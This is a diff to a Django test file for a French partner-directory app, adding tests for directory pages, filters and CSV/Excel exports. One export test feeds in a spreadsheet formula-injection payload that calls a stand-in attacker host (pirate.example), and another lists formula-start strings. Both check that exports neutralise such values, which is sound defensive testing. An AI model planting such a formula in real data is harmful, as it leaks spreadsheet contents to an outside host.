@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 
 import pytest
@@ -11,10 +12,11 @@ from openpyxl import load_workbook
 
 from actions.models import Signatory
 from partners.importing import import_partners
-from partners.models import Contact, Organization, OrganizationKind, Qpv, Sector
+from partners.models import Contact, HandOver, Organization, OrganizationKind, Qpv, Sector
 from tests.factories import (
     ContactFactory,
     ContractFactory,
+    FicheActionFactory,
     MeetingFactory,
     OrganizationFactory,
     WorkGroupFactory,
@@ -28,15 +30,22 @@ BASE = "/t/cergy/annuaire"
 
 
 def grow(territory, n: int = 10) -> None:
+    """Rows for every directory page: structures, people in groups, departures waiting for a
+    decision, and people nobody has heard of for four years (the review list)."""
     health = Sector.objects.get(slug="sante")
     contract = ContractFactory(territory=territory)
     group = WorkGroupFactory(contract=contract)
+    four_years_ago = timezone.now() - dt.timedelta(days=4 * 365)
     for _ in range(n):
         org = OrganizationFactory(territory=territory)
         org.sectors.add(health)
         contact = ContactFactory(territory=territory, organization=org, phone="01 02 03 04 05")
         Membership.objects.create(group=group, contact=contact)
         group.pilots.add(contact)
+        HandOver.objects.create(
+            contact=contact, successor_first_name="Léa", successor_email=f"lea{contact.pk}@asso.fr"
+        )
+        ContactFactory(territory=territory, organization=org, last_activity_at=four_years_ago)
 
 
 @pytest.mark.parametrize(
@@ -61,7 +70,11 @@ def test_directory_pages_keep_a_constant_query_count(login_as, coordinator, path
                 contact=contact,
             )
 
-    assert_constant_queries(login_as(coordinator), BASE + url, more, at_most=16)
+    client = login_as(coordinator)
+    assert_constant_queries(client, BASE + url, more, at_most=16)
+    paginator = client.get(BASE + url).context.get("paginator")
+    if paginator is not None:
+        assert paginator.count >= 15, "the page is measured with rows to show"
 
 
 @pytest.mark.parametrize(
@@ -371,3 +384,128 @@ def test_structure_and_contact_pages_show_the_meetings_attended(login_as, coordi
     assert f"/reunions/{meeting.pk}/" in page and "1 personne" in page
     page = client.get(f"{BASE}/contacts/{person.pk}/").content.decode()
     assert "GT Santé mentale" in page and "Présent·e" in page
+
+
+def test_structure_page_shows_the_actions_it_is_a_partner_of(login_as, coordinator, viewer):
+    from actions.models import ActionPartner, CollaborationLevel, ContractStatus
+
+    territory = coordinator.territory
+    org = OrganizationFactory(territory=territory, name="Mission locale")
+    level = CollaborationLevel.objects.order_by("rank").last()
+    fiche = FicheActionFactory(
+        contract=ContractFactory(territory=territory), title="Parcours santé des jeunes"
+    )
+    ActionPartner.objects.create(
+        fiche=fiche, organization=org, role="Repérage des jeunes", level=level
+    )
+    draft = FicheActionFactory(
+        contract=ContractFactory(territory=territory, status=ContractStatus.DRAFT),
+        title="Action en préparation",
+    )
+    ActionPartner.objects.create(fiche=draft, organization=org, role="À définir")
+    page = login_as(coordinator).get(f"{BASE}/structures/{org.pk}/").content.decode()
+    assert "Parcours santé des jeunes" in page
+    assert "Repérage des jeunes" in page and level.label in page
+    assert "ne pilote ni ne co-pilote" not in page
+    assert "Action en préparation" in page
+    page = login_as(viewer).get(f"{BASE}/structures/{org.pk}/").content.decode()
+    assert "Parcours santé des jeunes" in page
+    assert "Action en préparation" not in page, "a viewer reads signed contracts only"
+
+
+def test_structure_page_tells_pilots_from_copilots(login_as, coordinator):
+    territory = coordinator.territory
+    org = OrganizationFactory(territory=territory, name="CMP adultes")
+    contract = ContractFactory(territory=territory)
+    FicheActionFactory(contract=contract, title="Premiers secours", pilot_organization=org)
+    copiloted = FicheActionFactory(contract=contract, title="Habitat et santé")
+    copiloted.copilots.add(ContactFactory(territory=territory, organization=org))
+    page = login_as(coordinator).get(f"{BASE}/structures/{org.pk}/").content.decode()
+    assert "Premiers secours</a> · pilote" in page
+    assert "Habitat et santé</a> · co-pilote" in page
+
+
+def test_structures_filter_by_the_groups_their_people_take_part_in(login_as, coordinator):
+    territory = coordinator.territory
+    contract = ContractFactory(territory=territory)
+    mental = WorkGroupFactory(contract=contract, name="GT Santé mentale")
+    member = ContactFactory(territory=territory, organization__name="CMP adultes")
+    pilot = ContactFactory(territory=territory, organization__name="UNAFAM")
+    ContactFactory(territory=territory, organization__name="Club de boxe")
+    Membership.objects.create(group=mental, contact=member)
+    Membership.objects.create(
+        group=mental, contact=ContactFactory(territory=territory, organization=member.organization)
+    )
+    mental.pilots.add(pilot)
+    response = login_as(coordinator).get(f"{BASE}/structures/?group={mental.pk}")
+    orgs = list(response.context["organizations"])
+    assert {o.name for o in orgs} == {"CMP adultes", "UNAFAM"}
+    assert {o.name: o.contact_count for o in orgs}["CMP adultes"] == 2, "counts stay right"
+    assert "GT Santé mentale" in response.content.decode(), "the filter offers the group"
+
+
+def test_exports_never_carry_a_live_formula(login_as, coordinator):
+    """A partner types their job title through their link: it must stay text in Excel."""
+    ContactFactory(
+        territory=coordinator.territory,
+        last_name="Faure",
+        job_title='=HYPERLINK("http://pirate.example/?"&A2;"Cliquez")',
+        phone="+33 1 23 45 67 89",
+    )
+    client = login_as(coordinator)
+    text = client.get(f"{BASE}/export.csv").content.decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
+    assert row[3].startswith("'=HYPERLINK")
+    assert row[5] == "'+33 1 23 45 67 89"
+    sheet = load_workbook(io.BytesIO(client.get(f"{BASE}/export.xlsx").content)).active
+    title = sheet.cell(row=2, column=4)
+    assert title.data_type == "s" and title.value.startswith("=HYPERLINK")
+    assert title.quotePrefix
+    # ...and the export still re-imports as it was typed.
+    report = import_partners(
+        territory=coordinator.territory, content=text.encode(), file_name="export.csv"
+    )
+    assert report.summary["unchanged"] == 1
+
+
+def test_the_export_knows_two_formats_only(login_as, coordinator):
+    client = login_as(coordinator)
+    assert client.get(f"{BASE}/export.csv").status_code == 200
+    assert client.get(f"{BASE}/export.xlsx").status_code == 200
+    for other in ("pdf", "json", "csv.exe", "x"):
+        assert client.get(f"{BASE}/export.{other}").status_code == 404
+
+
+def test_spreadsheets_neutralise_every_formula_start():
+    from cls_platform.spreadsheets import csv_bytes, xlsx_bytes
+
+    dangerous = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
+    rows = [["Titre", "Nombre"], *[[value, 3] for value in dangerous], ["Directrice", -4]]
+    text = csv_bytes(rows).decode("utf-8-sig")
+    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    assert [r[0] for r in read[1:-1]] == ["'" + value for value in dangerous]
+    assert read[-1] == ["Directrice", "-4"], "numbers and plain texts are untouched"
+    sheet = load_workbook(io.BytesIO(xlsx_bytes(rows, title="Test"))).active
+    cells = [sheet.cell(row=i, column=1) for i in range(2, 2 + len(dangerous))]
+    assert all(c.data_type == "s" for c in cells)
+    assert [c.value for c in cells] == dangerous
+    assert sheet.cell(row=len(rows), column=2).value == -4
+
+
+def test_the_demo_puts_structures_in_its_qpvs(login_as, coordinator):
+    from partners.demo import seed_directory
+
+    territory = coordinator.territory
+    seed_directory(territory)
+    seed_directory(territory)  # twice changes nothing
+    for qpv in Qpv.objects.filter(territory=territory):
+        names = {
+            o.name
+            for o in login_as(coordinator)
+            .get(f"{BASE}/structures/?qpv={qpv.pk}")
+            .context["organizations"]
+        }
+        assert names, f"the QPV filter shows structures of {qpv.name}"
+    assert "Maison de quartier Axe Majeur-Horloge" in {
+        o.name for o in Organization.objects.filter(qpv__name="Axe Majeur-Horloge")
+    }
